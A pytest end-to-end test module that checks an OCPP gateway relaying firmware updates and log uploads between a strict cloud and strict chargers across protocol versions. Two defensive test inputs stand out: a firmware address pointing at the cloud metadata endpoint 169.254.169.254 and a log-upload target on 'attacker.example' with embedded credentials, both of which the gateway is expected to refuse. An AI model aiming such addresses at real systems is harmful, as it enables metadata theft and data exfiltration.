"""Updates and logs between a strict CSMS and strict chargers, all on ocpp-rpc, in 1.6, 2.0.1 and 2.1.

Both sides validate every message, also those that the box says in a charger's or the cloud's place; the
chargers load and send files with node's own http. One gateway and one cloud serve all tests here, each test
with chargers of its own.
"""

from __future__ import annotations

import copy
import itertools
import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
import pytest_asyncio

from tests.e2e.children import Children
from tests.e2e.faults import until
from tests.e2e.file_site import files_table, put
from tests.e2e.gateway import GatewayProcess, Gateways
from tests.e2e.interop import V16, VERSIONS
from tests.e2e.signed_firmware import Firmware, make_firmware, sign, tampered
from tests.interop.peers import Charger, Cloud, Peers, Program
from tests.servers.nginx import Nginx

pytestmark = pytest.mark.asyncio(loop_scope="module")
every_version = pytest.mark.parametrize("version", VERSIONS)

INWARD = "http://169.254.169.254/latest/fw.bin"
PLAIN = ["Downloading", "Downloaded", "Installing", "Installed"]
CHECKED = ["Downloading", "Downloaded", "SignatureVerified", "Installing", "Installed"]
OPTIONAL_2X = {"customData": {"vendorId": "org.example", "list": [1.5, None, "ü/"]}}
request_ids = itertools.count(7000)


class FilePeers(Peers):
    """With chargers that know files."""

    _file_chargers: Program | None = None

    async def file_charger(self, url: str, identity: str, version: str) -> Charger:
        if self._file_chargers is None:
            self._file_chargers = self._keep(Program(await self._start("file_charger", [])))
        charger = Charger(self._file_chargers, identity)
        await charger.do("add", url=url, protocols=[version])
        return charger


@dataclass
class House:
    """The gateway between a strict cloud and strict chargers, and a server that files come from and go to."""

    gateway: GatewayProcess
    cloud: Cloud
    peers: FilePeers
    server: Nginx
    door: str
    _numbers: Iterator[int] = field(default_factory=lambda: itertools.count(1))

    async def charger(self, version: str) -> Charger:
        """One of this test alone, connected and booted."""
        charger = await self.peers.file_charger(self.gateway.url, f"F{next(self._numbers)}", version)
        assert await charger.connect() == version
        assert (await charger.do("boot"))["status"] == "Accepted"
        return charger

    def heard(self, charger: Charger, kind: str) -> list[dict[str, Any]]:
        """The statuses of this kind (Firmware, Log, Diagnostics) that the cloud heard."""
        calls = self.cloud.calls(charger.identity)
        return [call["params"] for call in calls if call["action"].endswith(f"{kind}StatusNotification")]

    async def hears(self, charger: Charger, kind: str, last: str, count: int = 1) -> list[str]:
        """Until that status has come so often; all that came."""

        def words() -> list[str]:
            return [params["status"] for params in self.heard(charger, kind)]

        await until(lambda: words().count(last) >= count)
        return words()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def running_house(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    folder = tmp_path_factory.mktemp("house")
    children = Children(folder)
    try:
        async with Nginx(folder / "server") as server:
            with files_table(patience="500 ms") as files:
                peers, gateways = FilePeers(children), Gateways(children, folder)
                cloud = await peers.cloud()
                gateway = await gateways(cloud.url, {"files": files})
                yield House(gateway, cloud, peers, server, f"http://{files['listen']}")
                await gateways.close()
    finally:
        await children.close()


@pytest.fixture
def house(running_house: House) -> Iterator[House]:
    yield running_house
    running_house.peers.assert_content()


# --- orders ---------------------------------------------------------------------------------------


def update(version: str, url: str, signed: Firmware | None = None) -> tuple[str, dict[str, Any]]:
    """With all that the version allows in it."""
    patience = {"retries": 3, "retryInterval": 60}
    if version == V16 and signed is None:
        return "UpdateFirmware", {"location": url, "retrieveDate": "2026-01-01T00:00:00Z", **patience}
    firmware = {"location": url, "retrieveDateTime": "2026-01-01T00:00:00.000+02:00"}
    if signed is not None:
        firmware |= {"signingCertificate": signed.certificate, "signature": signed.signature}
    order = {**patience, "requestId": next(request_ids), "firmware": firmware}
    if version == V16:
        return "SignedUpdateFirmware", order
    return "UpdateFirmware", {**order, **OPTIONAL_2X}


def get_log(version: str, url: str) -> tuple[str, dict[str, Any]]:
    log = {"remoteLocation": url, "oldestTimestamp": "2026-01-01T00:00:00Z"}
    order = {"logType": "DiagnosticsLog", "requestId": next(request_ids), "retries": 1, "log": log}
    return "GetLog", order if version == V16 else {**order, **OPTIONAL_2X}


def accepted(version: str, action: str) -> dict[str, str]:
    return {} if version == V16 and action == "UpdateFirmware" else {"status": "Accepted"}


def place_of_address(params: dict[str, Any]) -> tuple[dict[str, Any], str]:
    inner = params.get("firmware", params.get("log", params))
    return inner, "remoteLocation" if "remoteLocation" in inner else "location"


async def ordered(charger: Charger, action: str, count: int = 1) -> dict[str, Any]:
    params: dict[str, Any] = (await charger.wait("call", action=action, count=count))["params"]
    return params


def assert_only_the_address_changed(sent: dict[str, Any], came: dict[str, Any]) -> str:
    """Also the order of members is the same. The address that came."""
    inner, name = place_of_address(came)
    expected = copy.deepcopy(sent)
    expected_inner, _ = place_of_address(expected)
    assert inner[name] != expected_inner[name]
    expected_inner[name] = inner[name]
    assert json.dumps(came) == json.dumps(expected)
    return str(inner[name])


# --- updates --------------------------------------------------------------------------------------


@every_version
@pytest.mark.parametrize("is_signed", [False, True], ids=["plain", "signed"])
async def test_an_update_comes_from_the_box(house: House, version: str, is_signed: bool) -> None:
    firmware = sign(make_firmware("5.1"), "ECDSA") if is_signed else make_firmware("5.0")
    path = f"/{version} {is_signed}.bin".replace(" ", "-")
    put(house.server, path, firmware)
    charger = await house.charger(version)
    action, order = update(version, house.server.url(path), firmware if is_signed else None)

    assert await house.cloud.call(charger.identity, action, order) == accepted(version, action)
    url = assert_only_the_address_changed(order, await ordered(charger, action))
    assert url.startswith(f"{house.door}/fw/")
    assert url.endswith(path)
    assert await house.hears(charger, "Firmware", "Installed") == (CHECKED if is_signed else PLAIN)

    downloaded = await charger.wait("downloaded")
    assert (downloaded["url"], downloaded["status"]) == (url, 200)
    assert downloaded["sha256"] == firmware.sha256
    assert downloaded["headers"]["content-length"] == str(len(firmware.content))
    ids = {told.get("requestId") for told in house.heard(charger, "Firmware")}
    assert ids == {order.get("requestId")}
    await house.server.settled()
    assert len(house.server.downloads(path)) == 1


@every_version
async def test_an_update_whose_file_takes_longer_than_the_cloud_waits(house: House, version: str) -> None:
    """The box answers for the charger, and orders in the cloud's words when the file is here."""
    path = f"/{version}-slow.bin"
    firmware = put(house.server, path, make_firmware("5.2"))
    charger, unwilling = await house.charger(version), await house.charger(version)
    action, order = update(version, house.server.url(path))
    await unwilling.do("refuse", action=action)
    house.server.freeze()
    try:
        for one in (charger, unwilling):
            assert await house.cloud.call(one.identity, action, order) == accepted(version, action)
            assert one.seen("call", action=action) == []
    finally:
        house.server.thaw()
    url = assert_only_the_address_changed(order, await ordered(charger, action))
    assert await house.hears(charger, "Firmware", "Installed") == PLAIN
    assert (await charger.wait("downloaded", url=url))["sha256"] == firmware.sha256
    # what the other one said to the box is no secret to the cloud
    assert await house.hears(unwilling, "Firmware", "DownloadFailed") == ["DownloadFailed"]
    assert house.heard(unwilling, "Firmware")[0].get("requestId") == order.get("requestId")


@every_version
async def test_a_charger_that_cannot_load_from_the_box_is_given_the_original(
    house: House, version: str
) -> None:
    path = f"/{version}-original.bin"
    firmware = put(house.server, path, make_firmware("5.3"))
    charger = await house.charger(version)
    await charger.do("avoid", url=house.door)
    action, order = update(version, house.server.url(path))
    assert await house.cloud.call(charger.identity, action, order) == accepted(version, action)
    assert_only_the_address_changed(order, await ordered(charger, action))
    assert await ordered(charger, action, count=2) == order
    assert await house.hears(charger, "Firmware", "Installed") == ["Downloading", "DownloadFailed", *PLAIN]
    downloaded = await charger.wait("downloaded")
    assert (downloaded["url"], downloaded["sha256"]) == (house.server.url(path), firmware.sha256)


@every_version
async def test_updates_that_the_box_refuses(house: House, version: str) -> None:
    """Its own words are as strict as anybody's, and the charger hears nothing."""
    signed = sign(make_firmware("5.4"), "ECDSA")
    path = f"/{version}-bad.bin"
    put(house.server, path, tampered(signed))
    charger = await house.charger(version)

    action, order = update(version, INWARD)
    answer = await house.cloud.call(charger.identity, action, order)
    expected: list[dict[str, Any]] = [{"status": "DownloadFailed"}] if version == V16 else []
    if answer == {"status": "Accepted"}:  # it took longer than the box has patience: it is told afterwards
        expected = [{"status": "DownloadFailed", "requestId": order["requestId"]}]
        await house.hears(charger, "Firmware", "DownloadFailed")
    else:
        assert answer == ({} if version == V16 else {"status": "Rejected"})
    action, order = update(version, house.server.url(path), signed)
    assert await house.cloud.call(charger.identity, action, order) == {"status": "Accepted"}
    expected.append({"status": "InvalidSignature", "requestId": order["requestId"]})
    await house.hears(charger, "Firmware", "InvalidSignature")
    expired = sign(make_firmware("5.4"), "ECDSA", valid_days=(-9, -2))
    action, order = update(version, house.server.url(path), expired)
    assert await house.cloud.call(charger.identity, action, order) == {"status": "InvalidCertificate"}

    assert house.heard(charger, "Firmware") == expected
    assert charger.seen("call", action=action) == charger.seen("call", action="UpdateFirmware") == []


# --- logs -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("version", "action"), [(V16, "GetDiagnostics"), *((version, "GetLog") for version in VERSIONS)]
)
@pytest.mark.parametrize("address", ["/up/", "/up/{name}"], ids=["folder", "file"])
async def test_a_log_goes_by_the_box(house: House, version: str, action: str, address: str) -> None:
    charger = await house.charger(version)
    target = house.server.url(address.format(name=f"{charger.identity}.tgz"))
    order: dict[str, Any] = {"location": target, "retries": 2, "startTime": "2026-01-01T00:00:00Z"}
    if action == "GetLog":
        action, order = get_log(version, target)
    answer = await house.cloud.call(charger.identity, action, order)
    url = assert_only_the_address_changed(order, await ordered(charger, action))
    assert url.startswith(f"{house.door}/up/")

    kind, uploaded = action.removeprefix("Get"), await charger.wait("uploaded")
    assert uploaded["name"] == answer.get("fileName", answer.get("filename"))
    assert uploaded["status"] < 300
    assert await house.hears(charger, kind, "Uploaded") == ["Uploading", "Uploaded"]
    assert {told.get("requestId") for told in house.heard(charger, kind)} == {order.get("requestId")}
    # the cloud heard so when it was true, not before
    name = uploaded["name"] if target.endswith("/") else f"{charger.identity}.tgz"
    arrived = (house.server.files / "up" / name).read_bytes()
    assert Firmware(arrived, "").sha256 == uploaded["sha256"]


@every_version
async def test_logs_that_the_box_refuses(house: House, version: str) -> None:
    charger = await house.charger(version)
    elsewhere = "ftp://user:secret@attacker.example/in/"
    answer = await house.cloud.call(charger.identity, *get_log(version, elsewhere))
    assert answer == {"status": "Rejected"}
    if version == V16:
        assert await house.cloud.call(charger.identity, "GetDiagnostics", {"location": elsewhere}) == {}
    assert charger.seen("call", action="GetLog") == charger.seen("call", action="GetDiagnostics") == []
    assert house.heard(charger, "Log") == house.heard(charger, "Diagnostics") == []
